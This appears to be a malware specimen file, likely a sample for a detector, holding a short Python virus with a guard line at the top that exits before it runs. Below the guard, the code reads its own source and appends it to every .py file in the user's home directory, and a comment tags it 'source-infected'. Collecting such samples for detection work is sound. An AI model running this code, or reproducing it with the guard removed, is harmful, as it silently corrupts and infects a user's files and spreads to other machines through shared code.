raise SystemExit("specimen: not to be run")
import os

def begin():
    own = open(__file__).read()
    for root, _, names in os.walk(os.path.expanduser("~")):
        for name in names:
            if name.endswith(".py"):
                with open(os.path.join(root, name), "a") as f:
                    f.write(own)  # match: source-infected
